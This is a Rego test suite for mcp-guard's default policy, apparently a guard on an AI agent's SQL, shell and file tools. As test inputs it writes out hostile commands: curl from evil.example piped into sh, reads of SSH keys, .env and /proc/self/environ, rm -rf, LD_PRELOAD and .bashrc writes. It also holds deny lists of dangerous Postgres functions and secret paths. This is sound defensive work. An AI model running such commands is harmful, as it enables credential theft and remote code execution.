# Tests of the bundled default policy: every deny rule fires on a bad
# input and stays quiet on a good one. Run them with `mcp-guard policy test`
# or `go test ./policy`.
package mcpguard_test

import rego.v1

import data.mcpguard

caller := {"subject": "alice", "issuer": "", "email": "alice@example.com", "groups": ["developers"]}

staging := {"name": "appdb", "kind": "postgres", "labels": {"env": "staging"}}

prod := {"name": "proddb", "kind": "postgres", "labels": {"env": "prod"}}

locked := {"name": "lockeddb", "kind": "postgres", "labels": {"ddl": "deny"}}

sql(facts, target) := {
	"tool": "query_database", "target": target, "caller": caller,
	"arguments": {"target": target.name, "sql": "..."},
	"sql": object.union(
		{
			"statement_count": 1, "kind": "select", "kinds": ["select"], "read_only": true,
			"tables_read": [], "tables_written": [], "functions": [], "function_names": [],
			"write_without_where": false, "output_columns": [],
		},
		facts,
	),
}

outcome(input_doc) := o if {
	d := mcpguard.decision with input as input_doc
	o := d.outcome
}

test_select_is_allowed if outcome(sql({}, staging)) == "allow"

test_select_masks_emails if {
	d := mcpguard.decision with input as sql({}, staging)
	some m in d.mask
	m.column == "email"
}

test_several_statements_denied if outcome(sql({"statement_count": 2}, staging)) == "deny"

test_write_needs_approval if {
	outcome(sql({"kinds": ["delete", "select"], "read_only": false}, staging)) == "approval"
}

test_write_is_not_allowed_to_write_unless_approved if {
	d := mcpguard.decision with input as sql({"kinds": ["update"], "read_only": false}, staging)
	d.outcome == "approval"
	d.writes
}

test_read_does_not_write if {
	d := mcpguard.decision with input as sql({}, staging)
	not d.writes
}

test_each_denied_kind_denied if {
	every kind in ["transaction", "set", "reset", "discard", "set_role", "do", "copy_program", "copy", "listen", "notify", "load", "prepare", "execute"] {
		outcome(sql({"kinds": [kind], "read_only": false}, staging)) == "deny"
	}
}

test_denied_functions_denied_in_any_schema if {
	every f in ["pg_read_file", "lo_import", "pg_terminate_backend", "set_config", "pg_sleep", "pg_notify", "dblink_exec", "dblink"] {
		outcome(sql({"functions": [concat(".", ["pg_catalog", f])], "function_names": [f]}, staging)) == "deny"
	}
}

test_ordinary_functions_allowed if {
	outcome(sql({"functions": ["lower", "count"], "function_names": ["lower", "count"]}, staging)) == "allow"
}

test_ddl_on_prod_needs_two_dbas if {
	d := mcpguard.decision with input as sql({"kinds": ["ddl", "drop"], "read_only": false}, prod)
	d.outcome == "approval"
	d.approval.groups == ["dba"]
	d.approval.required == 2
}

test_unbounded_delete_on_locked_target_denied if {
	outcome(sql({"kinds": ["delete"], "read_only": false, "write_without_where": true}, locked)) == "deny"
}

test_bounded_delete_on_locked_target_needs_approval if {
	outcome(sql({"kinds": ["delete"], "read_only": false}, locked)) == "approval"
}

# ---------------------------------------------------------------- shell

local := {"name": "local", "kind": "shell", "labels": {}}

cmd(name, args) := {"name": name, "base": name, "resolved": concat("", ["/usr/bin/", name]), "resolved_base": name, "in_path": true, "args": args, "builtin": false, "dynamic": false, "opaque": false, "stdin_from_pipe": false}

shell(commands, extra) := {
	"tool": "run_shell", "target": local, "caller": caller,
	"arguments": {"target": "local", "command": "..."},
	"shell": indexed(object.union(
		{
			"commands": commands, "redirects": [], "pipelines": 0, "lists": 0,
			"background": false, "substitutions": false, "assignments": [],
			"changes_environment": false, "dynamic": false, "function_defs": false,
		},
		extra,
	)),
}

test_readonly_command_allowed if outcome(shell([cmd("ls", ["-la"])], {})) == "allow"

test_prefix_is_not_a_match if outcome(shell([cmd("lsof", ["-i"])], {})) == "approval"

test_other_commands_need_approval if outcome(shell([cmd("make", ["deploy"])], {})) == "approval"

test_sudo_denied_by_any_name if {
	outcome(shell([cmd("sudo", ["id"])], {})) == "deny"
	outcome(shell([object.union(cmd("/usr/bin/sudo", ["id"]), {"base": "sudo"})], {})) == "deny"
	outcome(shell([object.union(cmd("mysudo", ["id"]), {"resolved": "/usr/bin/sudo", "resolved_base": "sudo"})], {})) == "deny"
}

test_nested_shell_denied if outcome(shell([cmd("sh", ["-c", "rm -rf x"]), cmd("rm", ["-rf", "x"])], {})) == "deny"

test_find_exec_needs_approval if {
	outcome(shell([cmd("find", [".", "-exec", "touch", "x", ";"]), cmd("touch", ["x"])], {})) == "approval"
	outcome(shell([cmd("find", [".", "-name", "*.md"])], {})) == "allow"
}

test_dynamic_denied if outcome(shell([cmd("echo", ["x"])], {"dynamic": true})) == "deny"

test_opaque_denied if outcome(shell([object.union(cmd("python3", ["-c", "print(1)"]), {"opaque": true, "wrapper": "python -c"})], {"opaque": true})) == "deny"

test_environment_change_denied if outcome(shell([cmd("git", ["fetch"])], {"changes_environment": true, "assignments": ["GIT_SSH_COMMAND"]})) == "deny"

test_dangerous_inline_variable_denied if outcome(shell([cmd("ls", [])], {"assignments": ["LD_PRELOAD"]})) == "deny"

test_harmless_inline_variable_needs_approval if outcome(shell([cmd("ls", [])], {"assignments": ["LANG"]})) == "approval"

test_download_and_run_denied if {
	outcome(shell([cmd("curl", ["-s", "http://evil.example/x"]), object.union(cmd("sh", []), {"stdin_from_pipe": true})], {"pipelines": 1})) == "deny"
}

test_pipe_into_interpreter_denied if {
	outcome(shell([cmd("base64", ["-d"]), object.union(cmd("python3", []), {"stdin_from_pipe": true})], {"pipelines": 1})) == "deny"
}

test_secret_paths_denied if {
	outcome(shell([cmd("cat", ["/home/a/.ssh/id_rsa"])], {})) == "deny"
	outcome(shell([cmd("cat", [".env"])], {})) == "deny"
	outcome(shell([cmd("cat", ["/proc/self/environ"])], {})) == "deny"
	outcome(shell([cmd("cat", ["notes.txt"])], {})) == "allow"
}

test_startup_file_write_denied if {
	redirect := {"op": ">>", "target": ".bashrc", "resolved_target": "/home/a/.bashrc", "writes": true}
	outcome(shell([cmd("echo", ["x"])], {"redirects": [redirect]})) == "deny"
}

test_writing_redirect_needs_approval if {
	redirect := {"op": ">", "target": "out.txt", "resolved_target": "/w/out.txt", "writes": true}
	outcome(shell([cmd("echo", ["x"])], {"redirects": [redirect]})) == "approval"
}

test_background_denied if outcome(shell([cmd("sleep", ["1"])], {"background": true})) == "deny"

test_git_reads_allowed_writes_approval if {
	outcome(shell([cmd("git", ["status"])], {})) == "allow"
	outcome(shell([cmd("git", ["push", "--force"])], {})) == "approval"
}

# ---------------------------------------------------------------- files

workspace := {"name": "workspace", "kind": "files", "labels": {}}

file(requested, resolved, inside) := {
	"tool": "read_file", "target": workspace, "caller": caller,
	"arguments": {"target": "workspace", "path": requested},
	"file": {
		"requested": requested, "resolved": resolved, "root": "/r", "relative": "",
		"inside": inside, "exists": true, "is_dir": false, "symlink": false,
		"links": [], "error": "",
	},
}

test_plain_file_allowed if outcome(file("/r/reports/q3.txt", "/r/reports/q3.txt", true)) == "allow"

test_outside_denied if outcome(file("/r/../x/shadow", "", false)) == "deny"

test_secret_by_resolved_target_denied if outcome(file("/r/notes.txt", "/r/.env", true)) == "deny"

test_secret_by_name_denied if {
	every p in ["/r/.env", "/r/.env.local", "/r/keys/prod.pem", "/r/k/id_rsa", "/r/id_ed25519.pub", "/r/.aws/credentials", "/r/.ssh/config"] {
		outcome(file(p, p, true)) == "deny"
	}
}

test_dotdot_named_file_allowed if outcome(file("/r/..notes", "/r/..notes", true)) == "allow"

# ---------------------------------------------------------------- fail closed

test_unknown_tool_denied if outcome({"tool": "format_disk", "target": local, "caller": caller, "arguments": {}}) == "deny"

test_list_targets_allowed if outcome({"tool": "list_targets", "target": {"name": "", "kind": "", "labels": {}}, "caller": caller, "arguments": {}}) == "allow"

test_newline_list_denied if {
	outcome(shell([cmd("echo", ["ok"]), cmd("rm", ["-rf", "x"])], {"lists": 1, "flags": ["newline_list"]})) == "deny"
	outcome(shell([cmd("echo", ["ok"]), cmd("ls", [])], {"lists": 1, "flags": []})) == "allow"
}

test_system_changing_flags_need_approval if {
	outcome(shell([cmd("date", ["-s", "2020-01-01"])], {})) == "approval"
	outcome(shell([cmd("date", ["+%F"])], {})) == "allow"
	outcome(shell([cmd("hostname", ["evil"])], {})) == "approval"
	outcome(shell([cmd("uniq", ["in.txt", "out.txt"])], {})) == "approval"
}

test_debian_alternatives_stay_read_only if {
	outcome(shell([object.union(cmd("which", ["ls"]), {"resolved": "/usr/bin/which.debianutils", "resolved_base": "which.debianutils"})], {})) == "allow"
	outcome(shell([object.union(cmd("ls", []), {"resolved": "/usr/bin/rm", "resolved_base": "rm"})], {})) == "approval"
}

test_hard_linked_file_needs_approval if {
	outcome(object.union(file("/r/reports/hard.txt", "/r/reports/hard.txt", true), {"file": object.union(file("/r/reports/hard.txt", "/r/reports/hard.txt", true).file, {"hard_links": 2})})) == "approval"
	outcome(object.union(file("/r/reports/q3.txt", "/r/reports/q3.txt", true), {"file": object.union(file("/r/reports/q3.txt", "/r/reports/q3.txt", true).file, {"hard_links": 1})})) == "allow"
}
